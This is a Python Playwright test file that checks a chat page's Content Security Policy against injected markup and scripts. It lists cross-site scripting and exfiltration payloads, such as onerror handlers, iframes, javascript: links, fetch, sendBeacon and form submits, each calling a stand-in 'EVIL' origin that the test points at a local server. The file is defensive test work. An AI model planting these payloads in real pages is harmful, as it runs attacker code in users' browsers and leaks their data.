"""Markup and scripts that got into a page all the same, past everything that makes texts harmless.

Each is planted twice: without the policy it does what its author wants, with the policy nothing.
"""

import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Page

from tests.chat.browser.room_page import RoomPage

NewPage = Callable[..., Page]
# Into the page as an attacker would bring it, whom textContent did not stop. EVIL is another origin.
MARKUP = {
    "event handler": "<img src=/nowhere onerror=\"ran = true; fetch('EVIL', {mode: 'no-cors'})\">",
    "image": "<img src='EVIL'>",
    "style attribute": "<p style=\"background: url('EVIL')\">x</p>",
    "style element": "<style>main { background: url('EVIL') }</style>",
    "style sheet": "<link rel=stylesheet href='EVIL'>",
    "frame": "<iframe src='EVIL'></iframe>",
    "frame with a document": "<iframe srcdoc=\"<img src='EVIL'>\"></iframe>",
    "object": "<object data='EVIL'></object>",
    "sound": "<audio src='EVIL' autoplay></audio>",
}
# What a planted script would do, and means of planting that need more than markup.
SCRIPTS = {
    "inline script": "const s = document.createElement('script'); s.text = \"ran = true; new Image().src = 'EVIL'\";"
    " document.body.append(s)",
    "script from elsewhere": "const s = document.createElement('script'); s.src = 'EVIL'; document.body.append(s)",
    "script address": "const a = document.createElement('a');"
    " a.href = \"javascript:void(ran = true, new Image().src = 'EVIL')\"; document.body.append(a); a.click()",
    "text as code": "setTimeout(\"ran = true; new Image().src = 'EVIL'\", 0)",
    "worker": "new Worker(URL.createObjectURL(new Blob([\"fetch('EVIL', {mode: 'no-cors'})\"])))",
    "fetch": "fetch('EVIL', {mode: 'no-cors'}).catch(() => {})",
    "beacon": "navigator.sendBeacon('EVIL', 'x')",
    "WebSocket": "new WebSocket('EVIL'.replace('http', 'ws'))",
    "form": "const f = document.createElement('form'); f.action = 'EVIL'; document.body.append(f); f.submit()",
    "base address": "const b = document.createElement('base'); b.href = 'EVIL'; document.head.append(b);"
    " fetch('relative', {mode: 'no-cors'}).catch(() => {})",
}
PLANTS = {
    **{name: f"document.body.insertAdjacentHTML('beforeend', `{markup}`)" for name, markup in MARKUP.items()},
    **SCRIPTS,
}


class Elsewhere:
    """Another origin, which notes that it was asked for something."""

    def __init__(self) -> None:
        self.is_asked = threading.Event()

        class Handler(BaseHTTPRequestHandler):
            def do_GET(handler) -> None:
                self.is_asked.set()
                handler.send_response(204)
                handler.end_headers()

            do_POST = do_GET

            def log_message(handler, *_: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_port}/"
        threading.Thread(target=self._server.serve_forever, args=(0.05,), daemon=True).start()

    def stop(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    elsewhere = Elsewhere()
    yield elsewhere
    elsewhere.stop()


@pytest.fixture(scope="module")
def shared_windows(new_shared_page: NewPage) -> tuple[RoomPage, RoomPage]:
    """One that obeys the policy, and one that does not."""
    return RoomPage(new_shared_page()), RoomPage(new_shared_page(bypass_csp=True))


@pytest.mark.parametrize("plant", PLANTS.values(), ids=PLANTS)
def test_nothing_planted_runs_or_calls_home(
    shared_windows: tuple[RoomPage, RoomPage], room: str, elsewhere: Elsewhere, plant: str
) -> None:
    script = f"() => {{ {plant.replace('EVIL', elsewhere.url)} }}"
    page, defenceless = (window.enter(room).page for window in shared_windows)
    with page.expect_console_message(lambda message: "Content Security Policy" in message.text):
        page.evaluate(script)
    assert page.evaluate("fetch('/healthz').then(({status}) => status)") == 200
    assert not page.evaluate("window.ran")
    assert not elsewhere.is_asked.is_set()

    defenceless.evaluate(script)
    assert elsewhere.is_asked.wait(15)
